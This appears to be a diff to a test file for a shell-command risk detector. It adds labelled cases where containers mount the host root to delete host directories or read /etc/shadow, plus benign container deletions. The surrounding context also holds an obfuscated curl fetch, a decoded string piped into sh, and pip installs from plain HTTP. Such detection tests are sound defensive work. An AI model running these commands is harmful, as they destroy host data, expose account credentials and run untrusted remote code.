@@ -291,6 +291,10 @@ const POSITIVE: [string, string, string][] = [
   ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
   // A transform piped into a shell, with no program name before the pipe to open the gate.
   ["printf 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", 'shell.decode-and-run', 'critical'],
+  // A container with a host system directory mounted: its paths are the host's.
+  ['docker run --rm -v /:/host alpine rm -rf /host/usr', 'shell.rm-recursive-root', 'critical'],
+  ['podman run --privileged --volume=/:/mnt fedora rm -rf /mnt', 'shell.rm-recursive-root', 'critical'],
+  ['docker run -v /etc:/x busybox cat /x/shadow', 'shell.account-file-read', 'critical'],
   // Packages installed from plain HTTP or a bare IP address run code chosen by whoever is there.
   ['pip3 install git+http://198.51.100.33/tools/agent.git', 'shell.download-execute', 'high'],
   ['pip install --extra-index-url http://pkgs.example.net/simple internal-utils', 'shell.download-execute', 'high'],
@@ -430,6 +434,8 @@ const NEGATIVE: [string, string][] = [
   ['How do I send a form upload with curl?', 'shell.computed-command'],
   ["echo 'make test' | sh", 'shell.decode-and-run'],
   ['ssh -R 9000:localhost:3000 dev@staging.example.com', 'shell.reverse-tunnel'],
+  ['docker run --rm -v "$PWD":/app -w /app node:20 rm -rf /app/dist', 'shell.rm-recursive-root'],
+  ['docker run --rm -v /srv/data:/data alpine rm -rf /data/tmp', 'shell.rm-recursive-root'],
   ['pip install -i http://localhost:3141/root/dev/+simple/ mypkg', 'shell.download-execute'],
   ['pip install git+https://github.com/pallets/flask.git', 'shell.download-execute'],
   ['npm install --save-dev vitest', 'shell.download-execute'],
